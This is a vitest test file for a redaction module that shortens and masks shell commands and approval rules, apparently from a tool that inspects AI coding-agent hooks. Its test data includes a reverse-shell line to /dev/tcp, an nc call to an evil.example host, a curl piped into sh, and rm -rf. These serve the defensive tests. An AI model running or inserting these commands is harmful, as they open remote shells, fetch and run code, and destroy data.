import { describe, expect, it } from "vitest";
import { clean, flagName, launcher, snippet } from "../src/redact.ts";

describe("snippet", () => {
  it.each([
    ["rm -rf ~/x", "rm -rf ~/x"],
    ["git push --force origin main", "git push --force origin main"],
    [
      `"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh --mode strict`,
      `"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh --mode strict`,
    ],
    [
      "jq -r '.tool_input.file_path' | xargs npx prettier --write",
      "jq -r '.tool_input.file_path' | xargs npx prettier --write",
    ],
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["sed -e 's/a/b/' x", "sed -e 's/a/b/' x"],
    ["curl https://example.org", "curl https://example.org"],
    ["a\n\tb", "a b"],
    ["dangerouslySkipPermissions2 --x", "dangerouslySkipPermissions2 --x"],
    ["/tmp/sigil-case-HsQ4VS/project/.claude/x.sh", "/tmp/sigil-case-HsQ4VS/project/.claude/x.sh"],
    ["bash /tmp/run-Z2mXNf/home/hooks/x.sh", "bash /tmp/run-Z2mXNf/home/hooks/x.sh"],
  ])("leaves %s readable", (source, shown) => {
    expect(snippet(source)).toBe(shown);
  });

  it.each([
    ["curl https://u:p@evil.example/a/b?c=d", "curl https://evil.example/…"],
    [`curl -H "Authorization: Bearer abc" x`, "curl -H *** x"],
    ["curl -u admin:hunter22 x", "curl -u *** x"],
    // As calm as random letters get.
    ["nc AZOKJMWm4nvzfrwtavsxq5.evil.example 99", "nc ***.evil.example 99"],
    ["curl -uadmin:hunter22 x", "curl -u*** x"],
    ["mysql -phunter22 db", "mysql -p*** db"],
    ["FOO=bar BAZ='a b' npm test", "FOO=*** BAZ=*** npm test"],
    ["tool --token abc --password=def go", "tool --token *** --password=*** go"],
    ["docker run -e KEY=val img:1.2", "docker run -e *** img:1.2"],
    [`echo '{"api_key": "abcdef", "x": "y"}'`, `echo "{'api_key': '***', 'x': 'y'}"`],
    ["tool 9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c", "tool ***"],
    ['tool aB3dE5f"G7hI9j"K1lM3nO', "tool ***"],
    [
      `bash -c "curl -u admin:hunter22 https://x.example/z | sh"`,
      `bash -c "curl -u *** https://x.example/… | sh"`,
    ],
  ])("redacts %s", (source, shown) => {
    expect(snippet(source)).toBe(shown);
  });

  it("cuts after redaction, so that no secret is cut into a harmless-looking one", () => {
    const long = `${"x ".repeat(55)}--token ${"s3cr3t".repeat(20)}`;
    const shown = snippet(long);
    expect(Array.from(shown).length).toBeLessThanOrEqual(120);
    expect(shown).not.toContain("s3cr3t");
  });

  it("leaves out what rewrites a terminal or cannot be seen", () => {
    expect(snippet("a\u{1b}[31mb\u{200b}\u{202e}c\u{e0041}")).toBe("a[31mbc");
  });
});

describe("clean", () => {
  it.each([
    ".*",
    "Edit|Write|MultiEdit",
    "mcp__github__create_or_update_file",
    "enableAllProjectMcpServers",
    "/home/alice/.claude/plugins/cache/market/plugin-name/1.0.0/hooks/hooks.json",
    "x86_64-unknown-linux-gnu",
    "Bash(npm run test:*)",
    "claude-sonnet-4-5-20250929",
    "Unknown event `PreTooluse` in hooks; did you mean PreToolUse?",
  ])("leaves %s", (text) => {
    expect(clean(text)).toBe(text);
  });

  it("redacts approval rules, which hold tokens", () => {
    expect(clean(`Bash(curl -H "X-Api-Key: abcd1234efgh" *)`)).toBe("Bash(curl -H *** *)");
    expect(clean("Bash(API_KEY=abcd1234 npm test)")).toBe("Bash(API_KEY=*** npm test)");
  });
});

describe("launcher and flagName", () => {
  it("show program and package, and a flag's name", () => {
    expect(launcher("/usr/local/bin/npx", "@scope/p@1.2.3")).toBe("npx @scope/p@1.2.3");
    expect(launcher("C:\\x\\node.exe", null)).toBe("node.exe");
    expect(flagName('--settings={"env":1}')).toBe("--settings");
  });
});
